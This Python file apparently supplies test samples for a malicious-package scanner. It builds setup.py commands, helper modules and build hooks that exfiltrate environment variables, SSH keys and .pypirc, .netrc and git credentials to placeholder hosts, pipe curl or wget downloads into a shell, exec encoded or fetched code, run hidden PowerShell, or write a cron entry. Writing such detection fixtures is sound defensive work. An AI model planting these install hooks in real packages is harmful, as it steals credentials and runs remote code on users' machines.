"""Install-time stealers: setup.py, its commands, and build back ends that an sdist brings along."""

from tests.malicious.making import HOOK, HOST, Sample, b64, installed, raw

FAMILY = "install time"
_COMMAND = """
from setuptools import setup
from setuptools.command.{module} import {base}
{imports}

class Custom({base}):
    def run(self):
        {body}
        super().run()

setup(name='demo', version='1.0', cmdclass={{'{base}': Custom}})
"""


def _command(name: str, base: str, imports: str, body: str) -> Sample:
    text = _COMMAND.format(module=base, base=base, imports=imports, body=body)
    return installed(FAMILY, name, text)


def samples() -> list[Sample]:
    """All of the family."""
    return [
        _command(
            "install command tells who installs",
            "install",
            "import socket, getpass, requests",
            f"requests.get('{HOST}/i', params={{'h': socket.gethostname(), 'u': getpass.getuser()}})",
        ),
        _command(
            "develop command runs a download",
            "develop",
            "import urllib.request",
            f"exec(urllib.request.urlopen('{HOST}/s.py').read())",
        ),
        _command(
            "egg_info command posts the environment",
            "egg_info",
            "import os, json, urllib.request as r",
            f"r.urlopen('{HOST}', data=json.dumps(dict(os.environ)).encode())",
        ),
        _command(
            "build_py command pipes curl into a shell",
            "build_py",
            "import os",
            f"os.system('curl -s {HOST}/x | bash')",
        ),
        _command(
            "bdist_wheel reads a key",
            "sdist",
            "import os, http.client",
            "k = open(os.path.expanduser('~/.ssh/id_rsa')).read(); "
            "c = http.client.HTTPSConnection('example.invalid'); c.request('POST', '/', k)",
        ),
        installed(
            FAMILY,
            "setup.py decodes and runs",
            f"import base64\nfrom setuptools import setup\n"
            f"exec(base64.b64decode(b'{b64()}'))\nsetup(name='demo')\n",
        ),
        installed(
            FAMILY,
            "setup.py fetches by DNS",
            "import socket, platform\nfrom setuptools import setup\n"
            "tag = platform.node().encode().hex()\n"
            "socket.gethostbyname(tag + '.x.example.invalid')\nsetup(name='demo')\n",
        ),
        installed(
            FAMILY,
            "setup.py in a helper",
            "from setuptools import setup\nfrom _helper import prepare\nprepare()\n"
            "setup(name='demo')\n",
            _helper="import subprocess\ndef prepare():\n"
            f"    subprocess.call('wget -q {HOST}/a -O /tmp/a && chmod +x /tmp/a && /tmp/a',"
            " shell=True)\n",
        ),
        installed(
            FAMILY,
            "atexit after install",
            "import atexit, os\nfrom setuptools import setup\ndef after():\n"
            f"    os.popen('powershell -w hidden -enc {b64()}')\natexit.register(after)\n"
            "setup(name='demo')\n",
        ),
        installed(
            FAMILY,
            "try and except hide it",
            "from setuptools import setup\ntry:\n    import os, requests\n"
            f"    requests.post('{HOOK}', json={{'content': str(os.environ)}})\n"
            "except Exception:\n    pass\nsetup(name='demo')\n",
        ),
        installed(
            FAMILY,
            "credentials of twine",
            "import os, urllib.request\nfrom setuptools import setup\n"
            "for name in ('.pypirc', '.netrc', '.git-credentials'):\n"
            "    path = os.path.join(os.path.expanduser('~'), name)\n"
            "    if os.path.exists(path):\n        with open(path, 'rb') as f:\n"
            f"            urllib.request.urlopen('{HOST}', data=f.read())\nsetup(name='demo')\n",
        ),
        installed(
            FAMILY,
            "data files into cron",
            "import os\nfrom setuptools import setup\n"
            "with open('/etc/cron.d/demo', 'w') as f:\n    f.write('* * * * * root /tmp/demo')\n"
            "setup(name='demo')\n",
        ),
        Sample(
            FAMILY,
            "build back end in the tree",
            {
                "pyproject.toml": b"[build-system]\nrequires = []\n"
                b"build-backend = 'backend'\nbackend-path = ['_build']\n",
                "_build/backend.py": raw(
                    "import os, urllib.request\nfrom flit_core.buildapi import *\n"
                    "def build_wheel(*args, **kwargs):\n"
                    f"    exec(urllib.request.urlopen('{HOST}/b').read())\n"
                ),
            },
            is_sdist=True,
        ),
        Sample(
            FAMILY,
            "build hook of hatchling",
            {
                "hatch_build.py": raw(
                    "import os, subprocess\n"
                    "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
                    "class Hook(BuildHookInterface):\n"
                    "    def initialize(self, version, build_data):\n"
                    f"        subprocess.run(['bash', '-c', 'curl {HOST}/h | sh'])\n"
                ),
                "demo/__init__.py": b"",
            },
            is_sdist=True,
        ),
    ]
